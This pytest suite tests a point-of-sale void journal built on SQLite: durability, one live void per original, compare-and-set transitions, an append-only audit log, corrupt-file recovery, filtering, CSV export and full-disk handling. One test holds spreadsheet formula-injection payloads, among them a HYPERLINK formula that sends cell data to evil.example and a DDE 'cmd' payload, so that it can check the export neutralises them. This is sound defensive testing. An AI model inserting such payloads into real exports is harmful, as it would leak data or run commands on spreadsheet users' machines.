"""The journal (DESIGN.md §2, §14): durable before the request leaves, one live void per original,
compare-and-set transitions, an append-only event log, corrupt files moved aside and reported,
the journal view's filters and pages, CSV export, and a full disk."""

from __future__ import annotations

import csv
import json
import os
import sqlite3
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from posrev.errors import JournalError
from posrev.journal import CSV_COLUMNS, SCHEMA_VERSION, AlreadyLive, Conflict, Journal
from posrev.model.operation import Operation

T0 = datetime(2026, 3, 14, 7, 0, 0, tzinfo=UTC)


class Ticker:
    """A clock for the journal: each reading is one second after the previous one, so
    "newest first" is well defined."""

    def __init__(self, start: datetime = T0, step: timedelta = timedelta(seconds=1)) -> None:
        self.now = start
        self.step = step

    def __call__(self) -> datetime:
        current = self.now
        self.now += self.step
        return current


def _void(journal: Journal, orig: str, **kw: Any) -> Operation:
    fields: dict[str, Any] = {"orig_syssn": orig, "out_trade_no": f"OTN-{orig}",
                              "action": "reversal", "txamt": 2500, "txcurrcd": "HKD",
                              "txdtm": "2026-03-14 15:00:00", "pay_type": "800108",
                              "udid": "till-1", "cashier": "C001"}
    fields.update(kw)
    return journal.create(**fields)


def _finish(journal: Journal, op: Operation, state: str = "voided") -> Operation:
    return journal.transition(op, event="void.final", state=state, message=f"test {state}")


@pytest.fixture
def path(tmp_path: Path) -> Path:
    return tmp_path / "data" / "journal.sqlite3"


@pytest.fixture
def journal(path: Path) -> Iterator[Journal]:
    j = Journal(path, now=Ticker())
    yield j
    j.close()


# -- durability settings and schema --------------------------------------------------------
def test_wal_and_synchronous_full_are_set(journal: Journal, path: Path) -> None:
    conn = journal._conn  # the connection that writes the intents
    assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    assert conn.execute("PRAGMA synchronous").fetchone()[0] == 2  # FULL
    # WAL is a property of the file: any other process sees it too
    other = sqlite3.connect(path)
    try:
        assert other.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    finally:
        other.close()


def test_schema_user_version(journal: Journal, path: Path) -> None:
    assert SCHEMA_VERSION == 3
    assert journal._conn.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION
    journal.close()
    again = Journal(path)  # reopening does not migrate twice
    try:
        assert again._conn.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION
        assert again.moved_aside is None
    finally:
        again.close()


def test_a_journal_from_a_newer_posrev_is_refused_and_kept(path: Path) -> None:
    Journal(path).close()
    conn = sqlite3.connect(path)
    conn.execute("PRAGMA user_version=99")
    conn.close()
    before = path.read_bytes()
    with pytest.raises(JournalError, match="newer posrev"):
        Journal(path)
    assert path.read_bytes() == before
    assert [p.name for p in path.parent.iterdir() if "corrupt" in p.name] == []


def test_the_intent_is_committed_before_create_returns(journal: Journal, path: Path) -> None:
    op = _void(journal, "1001")
    assert (op.state, op.sends, op.is_final) == ("intent", 0, False)
    other = sqlite3.connect(path)  # another process reading the file
    try:
        row = other.execute("SELECT state, final, txamt FROM operations WHERE op_id=?",
                            (op.op_id,)).fetchone()
    finally:
        other.close()
    assert row == ("intent", 0, 2500)
    assert [e["kind"] for e in journal.events(op.op_id)] == ["void.intent"]


def test_amounts_are_integer_minor_units(journal: Journal) -> None:
    with pytest.raises(TypeError):
        _void(journal, "1002", txamt=25.0)
    assert journal.count_operations() == 0


# -- one live void per original ------------------------------------------------------------
def test_a_second_live_void_of_one_original_is_refused(journal: Journal) -> None:
    first = _void(journal, "2001")
    with pytest.raises(AlreadyLive) as info:
        _void(journal, "2001", cashier="C002")
    assert info.value.operation.op_id == first.op_id
    assert "2001" in str(info.value) and "already in progress" in str(info.value)
    assert journal.count_operations() == 1
    assert journal.live_for("2001") == first
    _void(journal, "2002")  # another original is independent


@pytest.mark.parametrize("final", ["voided", "failed", "refund_required", "needs_manual"])
def test_after_the_first_is_final_a_new_void_is_allowed(journal: Journal, final: str) -> None:
    first = _void(journal, "3001")
    journal.transition(first, event="void.sending", state="sending")
    still_live = journal.get(first.op_id)
    assert still_live is not None
    with pytest.raises(AlreadyLive):
        _void(journal, "3001")
    _finish(journal, still_live, final)
    assert journal.live_for("3001") is None
    second = _void(journal, "3001")
    assert second.op_id != first.op_id
    assert journal.live_for("3001") == second
    assert journal.outcomes_for("3001") == [final, "unknown"]


def test_two_journals_on_one_file_cannot_both_start_a_void(path: Path) -> None:
    a, b = Journal(path), Journal(path)  # two windows, or two processes
    try:
        first = _void(a, "4001")
        with pytest.raises(AlreadyLive) as info:
            _void(b, "4001")
        assert info.value.operation.op_id == first.op_id
        # compare-and-set across the two: b's copy goes stale once a moves on
        stale = b.get(first.op_id)
        assert stale is not None
        a.transition(first, event="void.sending", state="sending")
        with pytest.raises(Conflict):
            b.transition(stale, event="void.sending", state="sending")
        _finish(a, a.get(first.op_id))  # type: ignore[arg-type]
        assert _void(b, "4001").orig_syssn == "4001"
    finally:
        a.close()
        b.close()


def test_racing_threads_with_their_own_journals_start_exactly_one_void(path: Path) -> None:
    Journal(path).close()
    journals = [Journal(path) for _ in range(8)]
    barrier = threading.Barrier(len(journals))
    results: list[str] = []
    lock = threading.Lock()

    def attempt(j: Journal) -> None:
        barrier.wait()
        try:
            _void(j, "5001")
            outcome = "created"
        except AlreadyLive:
            outcome = "already"
        with lock:
            results.append(outcome)

    threads = [threading.Thread(target=attempt, args=(j,)) for j in journals]
    for t in threads:
        t.start()
    for t in threads:
        t.join(30)
    for j in journals:
        j.close()
    assert sorted(results) == ["already"] * 7 + ["created"]


_RACER = """
import sys
from posrev.journal import AlreadyLive, Journal
j = Journal(sys.argv[1])
sys.stdout.write("ready\\n"); sys.stdout.flush()
sys.stdin.readline()
try:
    j.create(orig_syssn="6001", out_trade_no="", action="reversal", txamt=100, txcurrcd="HKD",
             txdtm="2026-03-14 15:00:00", pay_type="800108", udid=sys.argv[2], cashier="C1")
    print("created")
except AlreadyLive:
    print("already")
"""


def test_racing_processes_start_exactly_one_void(path: Path) -> None:
    Journal(path).close()
    procs = [subprocess.Popen([sys.executable, "-c", _RACER, str(path), f"till-{i}"],
                              stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
             for i in range(3)]
    try:
        for p in procs:
            assert p.stdout is not None and p.stdout.readline().strip() == "ready"
        for p in procs:  # release them together
            assert p.stdin is not None
            p.stdin.write("go\n")
            p.stdin.flush()
        outs = sorted(p.communicate(timeout=60)[0].strip() for p in procs)
    finally:
        for p in procs:
            if p.poll() is None:
                p.kill()
                p.wait()
    assert outs == ["already", "already", "created"]
    j = Journal(path)
    try:
        assert j.count_operations() == 1 and len(j.live()) == 1
    finally:
        j.close()


# -- compare-and-set ----------------------------------------------------------------------
def test_transition_is_compare_and_set(journal: Journal) -> None:
    op = _void(journal, "7001")
    assert op.version == 0
    sent = journal.transition(op, event="void.sending", state="sending", sends=1)
    assert (sent.state, sent.sends, sent.version) == ("sending", 1, 1)
    with pytest.raises(Conflict, match="changed by someone else"):
        journal.transition(op, event="void.pending", state="pending")  # stale: version 0
    now = journal.get(op.op_id)
    assert now is not None and (now.state, now.version) == ("sending", 1)
    assert [e["kind"] for e in journal.events(op.op_id)] == ["void.intent", "void.sending"]
    done = _finish(journal, sent)
    assert done.is_final and journal.live() == []


def test_live_lists_every_unfinished_operation_by_next_check(journal: Journal) -> None:
    ops = [_void(journal, f"80{i:02d}") for i in range(5)]
    _finish(journal, ops[1])
    later = journal.transition(ops[0], event="void.pending", state="pending",
                               next_check_at=T0 + timedelta(hours=1))
    live = journal.live()
    assert [o.orig_syssn for o in live] == ["8002", "8003", "8004", "8000"]
    assert live[-1] == later
    assert all(not o.is_final for o in live)


# -- the event log is append-only ------------------------------------------------------------
def test_events_cannot_be_updated_or_deleted(journal: Journal, path: Path) -> None:
    op = _void(journal, "9001")
    journal.audit("supervisor.approval", actor="C001", result="success", detail={"x": 1})
    before = journal.events()
    with pytest.raises(sqlite3.DatabaseError, match="append-only"):
        journal._conn.execute("UPDATE events SET result='forged'")
    with pytest.raises(sqlite3.DatabaseError, match="append-only"):
        journal._conn.execute("DELETE FROM events")
    other = sqlite3.connect(path)  # another program with the file open
    try:
        with pytest.raises(sqlite3.DatabaseError, match="append-only"):
            other.execute("UPDATE events SET actor='someone' WHERE op_id=?", (op.op_id,))
        with pytest.raises(sqlite3.DatabaseError, match="append-only"):
            other.execute("DELETE FROM events WHERE id=1")
    finally:
        other.close()
    assert journal.events() == before
    journal.audit("later", detail={})
    assert len(journal.events()) == len(before) + 1


# -- a corrupt journal is moved aside, reported, and never lost --------------------------------
GARBAGE = b"this is not a database\x00\xff" * 200


def test_a_corrupt_file_is_moved_aside_and_a_fresh_journal_works(path: Path) -> None:
    path.parent.mkdir(parents=True)
    path.write_bytes(GARBAGE)
    j = Journal(path, now=Ticker())
    try:
        assert j.moved_aside is not None
        assert j.moved_aside.exists() and j.moved_aside != path
        assert j.moved_aside.parent == path.parent
        assert j.moved_aside.read_bytes() == GARBAGE  # the original bytes, kept
        recovered = j.events(kind_prefix="journal.recovered")
        assert len(recovered) == 1
        assert recovered[0]["detail"]["moved_aside"] == str(j.moved_aside)
        assert recovered[0]["result"] == "failure"
        op = _void(j, "10001")
        assert j.live() == [op]
    finally:
        j.close()
    again = Journal(path)  # the fresh one is healthy: nothing is moved the next time
    try:
        assert again.moved_aside is None and again.count_operations() == 1
    finally:
        again.close()


def test_a_truncated_journal_is_moved_aside_with_its_bytes(path: Path) -> None:
    j = Journal(path)
    for i in range(40):
        _void(j, f"11{i:03d}")
    j.close()
    for sidecar in ("-wal", "-shm"):
        Path(str(path) + sidecar).unlink(missing_ok=True)
    half = path.read_bytes()[: path.stat().st_size // 2]
    path.write_bytes(half)
    j = Journal(path)
    try:
        assert j.moved_aside is not None and j.moved_aside.read_bytes() == half
        assert j.count_operations() == 0
    finally:
        j.close()


def test_two_corrupt_journals_in_one_second_are_both_kept(path: Path) -> None:
    fixed = lambda: T0  # noqa: E731 - a clock that does not move
    path.parent.mkdir(parents=True)
    path.write_bytes(b"first corrupt journal" * 50)
    Journal(path, now=fixed).close()
    path.write_bytes(b"second corrupt journal" * 50)
    Journal(path, now=fixed).close()
    kept = sorted(p.read_bytes()[:6] for p in path.parent.iterdir()
                  if ".corrupt-" in p.name and not p.name.endswith(("-wal", "-shm")))
    assert kept == [b"first ", b"second"]


def _cli(home: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("POSREV_")}
    env["POSREV_HOME"] = str(home)
    return subprocess.run([sys.executable, "-m", "posrev", *args], capture_output=True,
                          text=True, env=env, timeout=60, cwd=home.parent)


def test_cli_with_a_corrupt_journal_warns_with_the_path_and_works(tmp_path: Path) -> None:
    home = tmp_path / "home"
    journal_file = home / "data" / "journal.sqlite3"
    journal_file.parent.mkdir(parents=True)
    journal_file.write_bytes(GARBAGE)
    proc = _cli(home, "journal", "--json")
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout) == []
    assert "Traceback" not in proc.stderr
    moved = [p for p in journal_file.parent.iterdir() if ".corrupt-" in p.name]
    assert len(moved) == 1 and moved[0].read_bytes() == GARBAGE
    warning = proc.stderr.strip().splitlines()
    assert len(warning) == 1 and "warning" in warning[0] and "moved aside" in warning[0]
    assert str(moved[0]) in warning[0]
    # the next run finds a healthy journal: no warning, and the recovery is in its audit log
    proc = _cli(home, "journal")
    assert proc.returncode == 0 and proc.stderr == ""
    assert "no operations yet" in proc.stdout
    j = Journal(journal_file)
    try:
        assert [e["detail"]["moved_aside"] for e in j.events(kind_prefix="journal.")] == [
            str(moved[0])]
    finally:
        j.close()


# -- the journal view: filters, pages, CSV -------------------------------------------------
@pytest.fixture
def filled(journal: Journal) -> Journal:
    """Ten operations, one second apart: 12000 … 12009; every third final."""
    for i in range(10):
        op = _void(journal, f"120{i:02d}", cashier="C-EVEN" if i % 2 == 0 else "C-ODD",
                   out_trade_no=f"ORDER-{i}")
        if i % 3 == 0:
            _finish(journal, op, "voided" if i != 9 else "failed")
    return journal


def test_pages_are_newest_first(filled: Journal) -> None:
    assert filled.count_operations() == 10
    first = filled.operations(0, 4)
    second = filled.operations(4, 4)
    last = filled.operations(8, 4)
    assert [o.orig_syssn for o in first] == ["12009", "12008", "12007", "12006"]
    assert [o.orig_syssn for o in second] == ["12005", "12004", "12003", "12002"]
    assert [o.orig_syssn for o in last] == ["12001", "12000"]
    assert filled.operations(10, 4) == []


def test_search_since_and_outcome_filters(filled: Journal) -> None:
    assert [o.orig_syssn for o in filled.operations(search="12003")] == ["12003"]
    assert [o.orig_syssn for o in filled.operations(search="ORDER-7")] == ["12007"]
    assert filled.count_operations(search="C-ODD") == 5
    op = filled.operations(search="12004")[0]
    assert filled.operations(search=op.op_id[:10]) == [op]
    assert filled.count_operations(search="nothing-like-this") == 0
    # since: created at or after; the ticker gave operation i a time >= T0 + i seconds
    since = filled.operations(search="12006")[0].created_at
    assert [o.orig_syssn for o in filled.operations(since=since)] == ["12009", "12008",
                                                                     "12007", "12006"]
    hk = since.astimezone(ZoneInfo("Asia/Hong_Kong"))
    assert filled.count_operations(since=hk) == 4  # any zone means the same instant
    assert {o.orig_syssn for o in filled.operations(outcome="voided")} == {"12000", "12003",
                                                                           "12006"}
    assert [o.orig_syssn for o in filled.operations(outcome="failed")] == ["12009"]
    assert filled.count_operations(outcome="pending") == 6
    assert filled.count_operations(search="C-EVEN", outcome="voided", since=since) == 1


def test_csv_export_columns_and_values(filled: Journal, tmp_path: Path) -> None:
    out = tmp_path / "export.csv"
    assert filled.export_csv(out) == 10
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == CSV_COLUMNS == [
        "op_id", "created_at", "updated_at", "outcome", "state", "action", "orig_syssn",
        "out_trade_no", "void_syssn", "txamt", "txcurrcd", "pay_type", "respcd", "cashier",
        "approver", "reason", "udid", "sends", "message", "kind", "refund_out_trade_no",
        "orig_txamt"]
    records = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    assert [r["orig_syssn"] for r in records] == [f"120{i:02d}" for i in range(10)]  # oldest 1st
    first = records[0]
    assert (first["outcome"], first["txamt"], first["txcurrcd"], first["cashier"]) == (
        "voided", "2500", "HKD", "C-EVEN")
    assert datetime.fromisoformat(first["created_at"]) == T0
    assert records[1]["outcome"] == "pending" and records[1]["state"] == "intent"
    # filters apply to the export as well
    assert filled.export_csv(out, outcome="failed") == 1


@pytest.mark.parametrize("evil", ['=HYPERLINK("http://evil.example/?"&A1,"Click")',
                                  "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)"])
def test_csv_export_neutralises_formulas(journal: Journal, tmp_path: Path, evil: str) -> None:
    _void(journal, "13001", cashier=evil, reason=evil)
    out = tmp_path / "export.csv"
    journal.export_csv(out)
    with open(out, newline="", encoding="utf-8") as fh:
        record = list(csv.DictReader(fh))[0]
    for column in ("cashier", "reason"):
        assert record[column][0] not in "=+-@", record[column]
        assert record[column] == "'" + evil  # neutralised, nothing lost
    assert journal.operations()[0].cashier == evil  # the journal itself keeps the truth


@pytest.mark.parametrize("evil", ["\t=1+1", "\r=1+1"])
def test_csv_export_neutralises_tab_and_cr_prefixed_formulas(journal: Journal, tmp_path: Path,
                                                            evil: str) -> None:
    _void(journal, "13002", cashier=evil)
    out = tmp_path / "export.csv"
    journal.export_csv(out)
    with open(out, newline="", encoding="utf-8") as fh:
        record = list(csv.DictReader(fh))[0]
    assert record["cashier"][0] not in "=+-@\t\r"


# -- a full or read-only disk ----------------------------------------------------------------
class _FailingWrites:
    """The journal's connection, except that every INSERT fails the way SQLite fails (its
    message and its result code: the journal reads the code, never the text)."""

    CODES = {"database or disk is full": (13, "SQLITE_FULL"),
             "attempt to write a readonly database": (8, "SQLITE_READONLY")}

    def __init__(self, conn: sqlite3.Connection, message: str) -> None:
        self._conn = conn
        self._message = message

    def execute(self, sql: str, *args: Any) -> sqlite3.Cursor:
        if sql.lstrip().upper().startswith("INSERT"):
            error = sqlite3.OperationalError(self._message)
            error.sqlite_errorcode, error.sqlite_errorname = self.CODES[self._message]
            raise error
        return self._conn.execute(sql, *args)

    def __getattr__(self, name: str) -> Any:
        return getattr(self._conn, name)


@pytest.mark.parametrize(("message", "words"), [
    ("database or disk is full", "disk is full"),
    ("attempt to write a readonly database", "read-only"),
])
def test_a_failed_write_says_so_and_records_nothing(journal: Journal, message: str,
                                                    words: str) -> None:
    _void(journal, "14000")
    events_before = journal.events()
    real = journal._conn
    journal._conn = _FailingWrites(real, message)  # type: ignore[assignment]
    try:
        with pytest.raises(JournalError) as info:
            _void(journal, "14001")
    finally:
        journal._conn = real
    text = str(info.value)
    assert words in text and "nothing was sent" in text
    assert text.endswith(".") and "\n" not in text and "Traceback" not in text
    assert info.value.exit_code == 4
    assert journal.live_for("14001") is None
    assert journal.count_operations() == 1
    assert journal.events() == events_before
    assert not real.in_transaction
    assert _void(journal, "14001").orig_syssn == "14001"  # usable once the disk has room


def test_a_really_full_database_says_disk_full_and_records_nothing(journal: Journal) -> None:
    conn = journal._conn
    _void(journal, "15000")
    pages = conn.execute("PRAGMA page_count").fetchone()[0]
    conn.execute(f"PRAGMA max_page_count={pages}").fetchone()  # the file may not grow
    created = 1
    error: JournalError | None = None
    for i in range(1, 2000):
        try:
            _void(journal, f"15{i:03d}")
        except JournalError as exc:
            error = exc
            failed = f"15{i:03d}"
            break
        created += 1
    assert error is not None, "the database never filled up"
    assert "disk is full" in str(error) and "nothing was sent" in str(error)
    assert journal.live_for(failed) is None
    assert journal.count_operations() == created
    conn.execute("PRAGMA max_page_count=1073741823").fetchone()
    assert _void(journal, failed).orig_syssn == failed


# -- change notification --------------------------------------------------------------------
def test_each_committed_change_is_announced_once_to_subscribers(journal: Journal) -> None:
    seen: list[str] = []
    unsubscribe = journal.subscribe(seen.append)
    op = _void(journal, "A1")
    op = journal.transition(op, event="void.sending", state="sending", sends=1)
    with pytest.raises(Conflict):  # a change that did not happen is not announced
        journal.transition(replace(op, version=0), event="void.x", state="voided")
    _finish(journal, op)
    assert seen == [op.op_id] * 3
    unsubscribe()
    _void(journal, "A2")
    assert len(seen) == 3


def test_changes_made_by_another_connection_are_found_once(path: Path) -> None:
    here, there = Journal(path, now=Ticker()), Journal(path, now=Ticker())
    try:
        assert here.changed_elsewhere() == []  # the bookmark
        mine = _void(here, "B1")
        assert here.changed_elsewhere() == []  # our own change is not news
        theirs = _void(there, "B2")
        _finish(there, there.get(mine.op_id))
        assert here.changed_elsewhere() == [theirs.op_id, mine.op_id]
        assert here.changed_elsewhere() == []
        there.audit("settings.changed")  # not an operation's change
        assert here.changed_elsewhere() == []
    finally:
        here.close()
        there.close()


def test_an_operations_history_has_its_events_and_the_approvals_for_it_in_time_order(
        journal: Journal) -> None:
    """What the details dialog lists: the operation's own events, and the supervisor events
    whose target is its payment or itself (given before it existed), not anyone else's."""
    def approval(kind: str, target: str) -> None:
        journal.audit(kind, actor="C001", result="success",
                      detail={"approver": "S001", "action": "void", "target": target})

    approval("supervisor.approval", "2025000000000000000001")  # before the operation
    approval("supervisor.approval", "2025000000000000000002")  # another payment's
    op = _void(journal, "2025000000000000000001")
    approval("supervisor.consumed", "2025000000000000000001")
    approval("supervisor.refused", op.op_id)
    journal.audit("void.note", op_id=op.op_id, detail={"target": "2025000000000000000002"})
    history = journal.history(op.op_id, (op.orig_syssn, op.op_id))
    kinds = [e["kind"] for e in history]
    assert kinds[0] == "supervisor.approval" and kinds[-1] == "void.note"
    assert kinds.count("supervisor.approval") == 1  # the other payment's is not there
    assert {"supervisor.consumed", "supervisor.refused"} <= set(kinds)
    assert [e["id"] for e in history] == sorted(e["id"] for e in history)
    assert all(e["op_id"] == op.op_id or e["kind"].startswith("supervisor.") for e in history)
    assert history[0]["detail"]["target"] == "2025000000000000000001"
